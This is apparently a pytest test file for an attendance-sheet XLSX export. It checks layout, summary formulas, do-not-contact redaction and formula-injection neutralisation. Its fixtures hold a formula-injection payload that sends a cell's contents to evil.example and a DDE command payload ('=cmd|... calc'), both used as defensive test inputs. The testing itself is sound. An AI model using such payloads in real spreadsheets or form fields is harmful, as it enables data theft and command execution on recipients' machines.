"""Attendance workbooks: read back with openpyxl (and as raw XML for the formula check)."""

from __future__ import annotations

import zipfile
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from desktop_app.db import Database
from desktop_app.exports import safe_cells
from desktop_app.exports.attendance_xlsx import (
    COLUMNS,
    AttendanceLine,
    AttendanceSheet,
    write_attendance,
)
from desktop_app.models import EventKind
from desktop_app.services import events, roster, signin
from desktop_app.services.roster import PersonInput

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
HEADERS = [header for header, _ in COLUMNS]


def column(sheet: Any, header: str) -> list[Any]:
    index = HEADERS.index(header)
    return [row[index].value for row in sheet.iter_rows(min_row=2)]


@pytest.fixture
def workbook_path(db: Database, tmp_path: Path) -> Path:
    event_id = events.create_event(
        db,
        events.EventInput(title="Street fair", starts_at=datetime.now(UTC), kind=EventKind.TABLING),
    ).id
    signin.save_kiosk_signup(
        db,
        event_id,
        signin.KioskSignup(
            given_name=HOSTILE,
            family_name="Mallory",
            email="mallory@example.org",
            postal_code="02139",
            interests=("Climate",),
            how_heard="+1 from a friend",
        ),
    )
    quiet = roster.create_person(
        db,
        PersonInput(
            given_name="Quiet",
            family_name="Person",
            email="quiet@example.org",
            phone="617 555 0142",
            do_not_contact=True,
        ),
    ).person_id
    signin.sign_in(db, event_id, quiet)
    ana = roster.create_person(
        db, PersonInput(given_name="Ana", family_name="Zed", phone="617 555 0143")
    ).person_id
    signin.sign_in(db, event_id, ana)
    return events.export_attendance(db, event_id, tmp_path / "attendance.xlsx")


def test_everyone_is_listed_with_a_bold_frozen_filtered_header(workbook_path: Path) -> None:
    book = load_workbook(workbook_path)
    sheet = book["Attendance"]
    header = next(sheet.iter_rows(max_row=1))
    assert [cell.value for cell in header] == HEADERS
    assert all(cell.font.b for cell in header)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:L{sheet.max_row}"
    assert sheet.max_row == 4  # header and three people
    assert column(sheet, "Family name") == ["Mallory", "Person", "Zed"]
    assert column(sheet, "First time") == ["Yes", "Yes", "Yes"]
    assert sheet.column_dimensions["A"].width > 10


def test_summary_counts_with_formulas(workbook_path: Path) -> None:
    summary = load_workbook(workbook_path)["Summary"]
    values = {row[0].value: row[1].value for row in summary.iter_rows()}
    assert values["Event"] == "Street fair"
    assert values["Attended"] == "=COUNTA('Attendance'!A2:A4)"
    assert values["First time"] == "=COUNTIF('Attendance'!D2:D4,\"Yes\")"
    assert isinstance(values["Starts"], datetime)


def test_hostile_name_is_text_not_a_formula(workbook_path: Path) -> None:
    sheet = load_workbook(workbook_path)["Attendance"]
    cell = sheet.cell(row=2, column=HEADERS.index("Given name") + 1)
    assert cell.value == HOSTILE  # exactly as typed, no apostrophe added
    assert cell.data_type == "s" and cell.quotePrefix
    how = sheet.cell(row=2, column=HEADERS.index("How they heard") + 1)
    assert how.value == "+1 from a friend" and how.quotePrefix
    with zipfile.ZipFile(workbook_path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_do_not_contact_is_marked_and_their_details_left_out(workbook_path: Path) -> None:
    sheet = load_workbook(workbook_path)["Attendance"]
    contact = column(sheet, "Contact")
    assert contact == [None, "Do not contact", None]
    assert column(sheet, "Email")[1] in (None, "")
    assert column(sheet, "Phone")[1] in (None, "")
    assert column(sheet, "Email")[0] == "mallory@example.org"
    with zipfile.ZipFile(workbook_path) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"quiet@example.org" not in everything and b"6175550142" not in everything


def test_phone_and_postal_code_are_text_and_times_are_real_dates(workbook_path: Path) -> None:
    sheet = load_workbook(workbook_path)["Attendance"]
    assert column(sheet, "Postal code")[0] == "02139"
    assert column(sheet, "Phone")[2] == "+16175550143"
    signed = column(sheet, "Signed in")
    assert all(isinstance(value, datetime) for value in signed)
    assert sheet.cell(row=2, column=HEADERS.index("Postal code") + 1).number_format == "@"


def test_times_are_local(tmp_path: Path) -> None:
    at = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
    line = AttendanceLine(
        name="A", given_name="A", family_name="B", first_time=False, source="Kiosk", signed_in_at=at
    )
    sheet = AttendanceSheet(
        title="T", kind="Meeting", starts_at=at, place="", cancelled=True, lines=[line]
    )
    tokyo = timezone(timedelta(hours=9))
    path = write_attendance(sheet, tmp_path / "t.xlsx", tz=tokyo)
    book = load_workbook(path)
    assert column(book["Attendance"], "Signed in") == [datetime(2026, 7, 2, 7, 30)]
    summary = {row[0].value: row[1].value for row in book["Summary"].iter_rows()}
    assert summary["Status"] == "Cancelled"


def test_an_empty_event_still_makes_a_valid_workbook(tmp_path: Path) -> None:
    sheet = AttendanceSheet(
        title="Nobody came",
        kind="Social",
        starts_at=datetime.now(UTC),
        place="",
        cancelled=False,
        lines=[],
    )
    book = load_workbook(write_attendance(sheet, tmp_path / "empty.xlsx"))
    assert book["Attendance"].max_row == 1
    summary = {row[0].value: row[1].value for row in book["Summary"].iter_rows()}
    assert summary["Attended"] == "=COUNTA('Attendance'!A2:A2)"


# --- the neutralising helpers, shared with later exports ----------------------------------


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ("=1+1", True),
        ("+15551234", True),
        ("-2", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("\x01x", True),
        ("Maria", False),
        (" =1", False),
        ("", False),
        ("02139", False),
    ],
)
def test_risky_text(text: str, risky: bool) -> None:
    assert safe_cells.is_risky(text) is risky
    assert safe_cells.csv_text(text) == ("'" + text if risky else text)


def test_text_a_cell_cannot_hold_is_marked_not_dropped() -> None:
    assert safe_cells.clean_cell_text("a\x00b\x1fc\td\ne") == "a\ufffdb\ufffdc\td\ne"
    long = safe_cells.clean_cell_text("x" * 40_000)
    assert len(long) == safe_cells.MAX_CELL_TEXT and long.endswith("…")


def test_control_characters_in_names_do_not_break_the_workbook(tmp_path: Path) -> None:
    line = AttendanceLine(
        name="Bad\x00name",
        given_name="=cmd|' /C calc'!A0",
        family_name="\x07",
        first_time=True,
        source="Import",
        signed_in_at=datetime.now(UTC),
    )
    sheet = AttendanceSheet(
        title="T",
        kind="Meeting",
        starts_at=datetime.now(UTC),
        place="",
        cancelled=False,
        lines=[line],
    )
    book = load_workbook(write_attendance(sheet, tmp_path / "c.xlsx"))
    row = next(book["Attendance"].iter_rows(min_row=2))
    assert row[0].value == "Bad\ufffdname"
    assert row[2].value == "=cmd|' /C calc'!A0" and row[2].data_type == "s"
